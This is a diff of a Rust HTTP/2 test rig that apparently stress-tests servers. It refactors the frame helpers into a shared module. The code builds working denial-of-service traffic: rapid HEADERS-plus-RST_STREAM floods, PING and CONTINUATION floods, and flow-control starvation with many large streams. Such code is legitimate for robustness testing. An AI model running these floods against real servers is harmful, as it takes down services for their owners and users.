@@ -8,6 +8,10 @@ use std::time::Duration;
 use bytes::Bytes;
 use h2::client::{Builder, SendRequest};
 use http::Request;
+use lameduck_rig::frames::{
+    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM,
+    frame, settings, window_update,
+};
 use rustls::ClientConfig;
 use rustls::pki_types::ServerName;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
@@ -217,12 +221,12 @@ async fn starved(attack: Attack, n: usize, target: &Target) -> std::io::Result<(
         _ => 1 << 20,
     };
     let mut bytes = PREFACE.to_vec();
-    bytes.extend(settings(window));
+    bytes.extend(settings(&[(INITIAL_WINDOW_SIZE, window)]));
     if attack == Attack::Unread {
-        bytes.extend(frame(8, 0, 0, &(1u32 << 30).to_be_bytes()));
+        bytes.extend(window_update(0, 1 << 30));
     }
     for k in 0..STREAMS as u32 {
-        bytes.extend(frame(1, END_HEADERS | END_STREAM, 2 * k + 1, LARGE));
+        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * k + 1, LARGE));
     }
     stream.write_all(&bytes).await?;
     stream.flush().await?;
@@ -254,36 +258,18 @@ async fn idle(n: usize, target: &Target) -> Result<(), std::io::Error> {
     run.await.map_err(std::io::Error::other)
 }
 
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// `GET https://a/large?kib=1`, in HPACK.
 const GET: &[u8] = b"\x82\x87\x04\x0c/large?kib=1\x01\x01a";
 /// `GET https://a/large?kib=512`.
 const LARGE: &[u8] = b"\x82\x87\x04\x0e/large?kib=512\x01\x01a";
-const END_STREAM: u8 = 1;
-const END_HEADERS: u8 = 4;
-
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
-    frame.extend([kind, flags]);
-    frame.extend(stream.to_be_bytes());
-    frame.extend_from_slice(payload);
-    frame
-}
-
-/// With this window for each stream.
-fn settings(window: u32) -> Vec<u8> {
-    let mut payload = 4u16.to_be_bytes().to_vec();
-    payload.extend(window.to_be_bytes());
-    frame(4, 0, 0, &payload)
-}
 
 async fn flood(n: usize, target: &Target) -> std::io::Result<()> {
     let stream = connect(target, None).await?;
     let (mut read, mut write) = tokio::io::split(stream);
     let mut bytes = PREFACE.to_vec();
-    bytes.extend(settings(1 << 16));
+    bytes.extend(settings(&[(INITIAL_WINDOW_SIZE, 1 << 16)]));
     if n % 3 == 2 {
-        bytes.extend(frame(1, 0, 1, GET));
+        bytes.extend(frame(HEADERS, 0, 1, GET));
     }
     target.opened.fetch_add(1, Ordering::Relaxed);
     let writing = async {
@@ -292,12 +278,12 @@ async fn flood(n: usize, target: &Target) -> std::io::Result<()> {
             for _ in 0..100 {
                 match n % 3 {
                     0 => {
-                        bytes.extend(frame(1, END_HEADERS | END_STREAM, stream, GET));
-                        bytes.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
+                        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
+                        bytes.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
                         stream += 2;
                     }
-                    1 => bytes.extend(frame(6, 0, 0, &[0; 8])),
-                    _ => bytes.extend(frame(9, 0, 1, &[])),
+                    1 => bytes.extend(frame(PING, 0, 0, &[0; 8])),
+                    _ => bytes.extend(frame(CONTINUATION, 0, 1, &[])),
                 }
             }
             write.write_all(&bytes).await?;
